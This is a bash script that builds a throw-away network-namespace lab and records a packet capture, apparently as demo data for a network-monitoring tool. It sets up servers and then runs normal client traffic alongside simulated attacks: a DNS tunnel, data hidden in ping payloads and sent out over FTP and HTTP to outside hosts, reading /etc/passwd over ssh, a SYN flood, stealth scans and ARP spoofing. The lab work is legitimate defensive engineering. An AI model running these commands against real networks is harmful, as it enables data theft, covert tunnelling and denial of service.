#!/usr/bin/env bash
# SPDX-License-Identifier: Apache-2.0
#
# demo/record.sh [OUT]: records demo/demo.pcap anew. Real servers, clients and attack tools from Debian run in network
# namespaces of their own, on documentation addresses; tcpdump listens on the gate's leg into the office network. Needs root.
#
#   office 192.0.2.0/25                 gate (tcpdump on lan0)               servers 192.0.2.128/25
#     alice    .10  an employee   ───┐                          ┌───  .140 resolver, files, ssh, ftp, snmp
#     mallory  .66  taken over    ───┴── .1 lan0    srv0 .129 ──┘
#                                              wan0 198.51.100.1 ───  outside 198.51.100.0/24: the web, and the attacker's hosts
#
# The machine itself is left alone: the programs come from a root of their own (demo/root.sh) below a throw-away overlay,
# and all of it, processes, mounts and interfaces, lives in namespaces that end with this script.
set -euo pipefail
here=$(cd "$(dirname "$0")" && pwd)

if [ "${WEIR_RECORDING:-}" != 1 ]; then
  [ "$(id -u)" = 0 ] || { echo "demo/record.sh: needs root" >&2; exit 3; }
  root=$("$here/root.sh")
  out=$(realpath -m "${1:-$here/demo.pcap}")
  exec env WEIR_RECORDING=1 unshare --mount --uts --net --pid --fork --kill-child --mount-proc -- "$0" "$root" "$out"
fi
root=$1 out=$2

hostname demo   # what servers say of themselves

# ---- A throw-away copy of the root
scratch=$(mktemp -d)
mount -t tmpfs weir-demo "$scratch"
trap 'umount -l "$scratch" 2>/dev/null; rmdir "$scratch" 2>/dev/null || true' EXIT
mkdir -p "$scratch/up" "$scratch/work" "$scratch/root"
mount -t overlay weir-demo -o "lowerdir=$root,upperdir=$scratch/up,workdir=$scratch/work" "$scratch/root"
in=$scratch/root
mount --bind /dev "$in/dev"
mount -t proc proc "$in/proc"
mount -t tmpfs run /run      # names of namespaces stay in here
mkdir -p /run/netns "$in/run/sshd" "$in/srv/web" "$in/srv/ftp/in" "$in/srv/files" "$in/srv/admin" "$in/srv/empty" \
  "$in/var/log/nginx" "$in/var/lib/nginx" "$in/root/.ssh" "$in/srv/smb" "$in/srv/smb2"
printf '# no resolver: a reverse look-up fails at once\n' >"$in/etc/resolv.conf"

# ---- The network
ip link set lo up
sysctl -qw net.ipv4.ip_forward=1 net.ipv6.conf.all.forwarding=1 net.ipv4.conf.all.send_redirects=0
ip link add lan0 type bridge
ip link set lan0 address 02:00:00:00:01:01

# host NAME PORT ADDRESS/PLEN GATEWAY ADDRESS6/PLEN GATEWAY6 MAC
host() {
  ip netns add "$1"
  ip link add "$2" type veth peer name eth0 netns "$1" address "$7"
  chroot "$in" ethtool -K "$2" tx off tso off gso off gro off >/dev/null
  ip link set "$2" up
  ip -n "$1" link set lo up
  ip netns exec "$1" chroot "$in" ethtool -K eth0 tx off tso off gso off gro off >/dev/null
  ip -n "$1" addr add "$3" dev eth0
  ip -n "$1" addr add "$5" dev eth0 nodad
  ip -n "$1" link set eth0 up
}
gateway() {
  ip -n "$1" route add default via "$2"
  ip -n "$1" -6 route add default via "$3"
}
host alice   alice0   192.0.2.10/25    - 2001:db8:1::10/64 - 02:00:00:00:00:10
host mallory mallory0 192.0.2.66/25    - 2001:db8:1::66/64 - 02:00:00:00:00:66
host servers srv0     192.0.2.140/25   - 2001:db8:2::140/64 - 02:00:00:00:02:40
host outside wan0     198.51.100.80/24 - 2001:db8:f::80/64 - 02:00:00:00:03:80
for port in alice0 mallory0; do ip link set "$port" master lan0; done
ip addr add 192.0.2.1/25 dev lan0
ip addr add 192.0.2.129/25 dev srv0
ip addr add 198.51.100.1/24 dev wan0
ip addr add 2001:db8:1::1/64 dev lan0 nodad
ip addr add 2001:db8:2::1/64 dev srv0 nodad
ip addr add 2001:db8:f::1/64 dev wan0 nodad
ip link set lan0 up
chroot "$in" ethtool -K lan0 tx off tso off gso off gro off >/dev/null
for name in alice mallory; do gateway $name 192.0.2.1 2001:db8:1::1; done
gateway servers 192.0.2.129 2001:db8:2::1
gateway outside 198.51.100.1 2001:db8:f::1
for last in 21 22 45 53 54 66 90; do ip -n outside addr add "198.51.100.$last/24" dev eth0; done

at() { local name=$1; shift; ip netns exec "$name" chroot "$in" "$@"; }            # run there, wait
log=$scratch/log
serve() { local name=$1; shift; ip netns exec "$name" chroot "$in" "$@" >>"$log" 2>&1 & }   # run there until the end
try() { local name=$1; shift; at "$name" timeout 12 "$@" >>"$log" 2>&1 </dev/null || true; }  # a client; its failure is fine

# ---- Servers
chroot "$in" ssh-keygen -A >/dev/null
chroot "$in" ssh-keygen -q -t ed25519 -N '' -f root/.ssh/id_ed25519  # chroot begins at its root
cp "$in/root/.ssh/id_ed25519.pub" "$in/root/.ssh/authorized_keys"
cat >"$in/root/.ssh/config" <<END
Host *
  StrictHostKeyChecking no
  UserKnownHostsFile /dev/null
END
serve servers /usr/sbin/sshd -D -e -o ListenAddress=192.0.2.140 -o UsePAM=no -o PidFile=none
serve outside /usr/sbin/sshd -D -e -o ListenAddress=198.51.100.22:443 -o ListenAddress=198.51.100.90:22 -o UsePAM=no -o PidFile=none

serve servers dnsmasq --keep-in-foreground --conf-file=/dev/null --no-resolv --no-hosts --user=root --pid-file= --bind-interfaces \
  --listen-address=192.0.2.140 --address=/www.example.com/198.51.100.80 --address=/www.example.com/2001:db8:f::80 \
  --address=/files.corp.example/192.0.2.140 --address=/cdn-update.example.net/198.51.100.66 --server=/t.example.net/198.51.100.53
serve outside dnsmasq --keep-in-foreground --conf-file=/dev/null --no-resolv --no-hosts --user=root --pid-file= --bind-interfaces \
  --listen-address=198.51.100.54 --address=/www.example.com/198.51.100.80
serve outside iodined -f -c -P demo 10.99.0.1/24 t.example.net -l 198.51.100.53

chroot "$in" openssl req -x509 -newkey rsa:2048 -nodes -days 3650 -subj /CN=www.example.com -addext subjectAltName=DNS:www.example.com \
  -keyout /srv/key.pem -out /srv/cert.pem 2>/dev/null
printf '<html><title>Example</title><p>A page.</html>\n' >"$in/srv/web/index.html"
printf 'welcome\n' >"$in/srv/web/login"
{ printf 'MZ'; head -c 4000 /dev/zero; } >"$in/srv/web/setup.exe"
cat >"$in/srv/nginx.conf" <<END
daemon off;
error_log stderr;
pid /run/nginx-demo.pid;
events {}
http {
  access_log off;
  server {
    listen 80; listen [::]:80;
    listen 443 ssl; listen [::]:443 ssl;
    ssl_certificate /srv/cert.pem;
    ssl_certificate_key /srv/key.pem;
    ssl_protocols TLSv1.2 TLSv1.3;
    root /srv/web;
  }
}
END
# port 443 of 198.51.100.22 belongs to sshd
sed -i 's/listen 443 ssl; /listen 198.51.100.80:443 ssl; listen 198.51.100.66:443 ssl; /' "$in/srv/nginx.conf"
serve outside nginx -c /srv/nginx.conf

printf 'the quarterly plan\n' >"$in/srv/files/plan.txt"
printf 'one,two,three\n%.0s' {1..60} >"$in/srv/customers.csv"
samba() { # NAMESPACE ADDRESS FOLDER
  cat >"$in/srv/$3.conf" <<END
[global]
  bind interfaces only = yes
  interfaces = $2/32
  disable netbios = yes
  smb ports = 445
  private dir = /srv/$3
  lock directory = /srv/$3
  state directory = /srv/$3
  cache directory = /srv/$3
  pid directory = /srv/$3
  ncalrpc dir = /srv/$3/rpc
  log file = /srv/$3/log
  server signing = mandatory
  passdb backend = tdbsam:/srv/$3/passdb.tdb
[files]
  path = /srv/files
[C\$]
  path = /srv/admin
  read only = no
END
  printf 'demo\ndemo\n' | chroot "$in" smbpasswd -c "/srv/$3.conf" -a -s root >>"$log" 2>&1
  serve "$1" smbd --foreground --no-process-group --configfile="/srv/$3.conf"
}
samba servers 192.0.2.140 smb
samba outside 198.51.100.45 smb2

chown root:root "$in/srv/ftp"
chmod 555 "$in/srv/ftp"
chmod 777 "$in/srv/ftp/in"
printf 'release notes\n' >"$in/srv/ftp/notes.txt"
ftp_server() { # NAMESPACE ADDRESS
  cat >"$in/srv/vsftpd-$1.conf" <<END
listen=YES
listen_address=$2
background=NO
anonymous_enable=YES
anon_root=/srv/ftp
anon_upload_enable=YES
write_enable=YES
no_anon_password=NO
seccomp_sandbox=NO
secure_chroot_dir=/srv/empty
pasv_min_port=40000
pasv_max_port=40020
END
  serve "$1" vsftpd "/srv/vsftpd-$1.conf"
}
ftp_server servers 192.0.2.140
ftp_server outside 198.51.100.21

cat >"$in/srv/snmpd.conf" <<END
agentaddress udp:192.0.2.140:161
rocommunity public
createUser monitor SHA demo-demo-demo AES demo-demo-demo
rouser monitor priv
sysDescr A switch
sysLocation The cellar
END
serve servers env MIBS= snmpd -f -Lo -C -c /srv/snmpd.conf -p /run/snmpd-demo.pid 
printf 'RFB 003.008\n' >"$in/srv/rfb"
serve outside socat TCP-LISTEN:5900,fork,reuseaddr,bind=198.51.100.66 SYSTEM:'cat /srv/rfb; sleep 1'
sleep 2.5

# ---- The recording
chroot "$in" tcpdump -i lan0 -s 0 -U -Z root -w /srv/demo.pcap >>"$log" 2>&1 &
recorder=$!
sleep 1
ask() { try "$1" dig +tries=1 +time=2 +nocookie "@$2" "${@:3}"; }

# What people do.
try alice ping -c 3 -i 0.2 192.0.2.140
try alice ping -6 -c 2 -i 0.2 2001:db8:f::80
ask alice 192.0.2.140 www.example.com A
ask alice 192.0.2.140 www.example.com AAAA
ask alice 192.0.2.140 files.corp.example A
try alice curl -s --resolve www.example.com:80:198.51.100.80 http://www.example.com/
try alice curl -sk --resolve www.example.com:443:198.51.100.80 https://www.example.com/
try alice curl -sk --resolve 'www.example.com:443:[2001:db8:f::80]' https://www.example.com/
try alice ssh 192.0.2.140 uptime
try alice smbclient //192.0.2.140/files -U root%demo -c 'get plan.txt /dev/null'
try alice curl -s ftp://192.0.2.140/notes.txt
try alice env MIBS= snmpget -v3 -u monitor -l authPriv -a SHA -A demo-demo-demo -x AES -X demo-demo-demo 192.0.2.140 .1.3.6.1.2.1.1.6.0

# And an attack beside each.
ask mallory 198.51.100.54 www.example.com A                                             # past the company's resolver
ask mallory 192.0.2.140 cdn-update.example.net A                                        # a name on the block list
try mallory curl -s --resolve cdn-update.example.net:80:198.51.100.66 http://cdn-update.example.net/setup.exe
try mallory curl -sk --resolve cdn-update.example.net:443:198.51.100.66 https://cdn-update.example.net/
serve mallory timeout 6 iodine -f -r -m 500 -P demo -T NULL 192.0.2.140 t.example.net          # IP over DNS, through the resolver
sleep 4
try mallory ping -c 2 -i 0.2 10.99.0.1
sleep 2
try mallory ping -c 4 -i 0.2 -s 1200 -p 70617373 198.51.100.66                          # files in echo requests
try mallory ssh -p 443 198.51.100.22 'cat /etc/passwd'                                  # ssh where only TLS belongs
try mallory smbclient '//192.0.2.140/C$' -U root%demo -c 'put /srv/customers.csv run.exe'   # an administrator's share
try mallory smbclient //198.51.100.45/files -U root%demo -c ls                          # a login sent to a stranger
try mallory curl -s -T /srv/customers.csv ftp://198.51.100.21/in/                        # files out by FTP
try mallory curl -s http://198.51.100.66/upload -d @/srv/customers.csv -H 'Host: 198.51.100.66'
serve outside timeout 8 ssh -N -D 198.51.100.90:1080 198.51.100.90                      # a SOCKS proxy
sleep 1.5
try mallory curl -s --socks5 198.51.100.90:1080 http://198.51.100.80/
try mallory socat -u TCP:198.51.100.66:5900 -                                           # a screen of somebody else's
try mallory env MIBS= snmpbulkwalk -v2c -c public 192.0.2.140 .1.3.6.1.2.1.1                              # what a device knows of itself
try mallory timeout 5 hping3 -q -S -p 80 -i u2000 -c 300 198.51.100.80                  # a SYN flood
try outside nmap -n -Pn -e eth0 -S 198.51.100.66 -sF -p 20-40 --max-retries 0 --host-timeout 5 192.0.2.10   # scans
try outside nmap -n -Pn -e eth0 -S 198.51.100.66 -sX -p 80-99 --max-retries 0 --host-timeout 5 192.0.2.10
try mallory timeout 4 arpspoof -i eth0 -t 192.0.2.1 192.0.2.10                          # mallory says she is alice
try alice curl -s --resolve www.example.com:80:198.51.100.80 http://www.example.com/

sleep 1
kill -INT $recorder
wait $recorder || true
cp "$in/srv/demo.pcap" "$out"
cp "$log" "${WEIR_LOG:-/dev/null}" 2>/dev/null || true
echo "recorded $(stat -c %s "$out") bytes in $out"
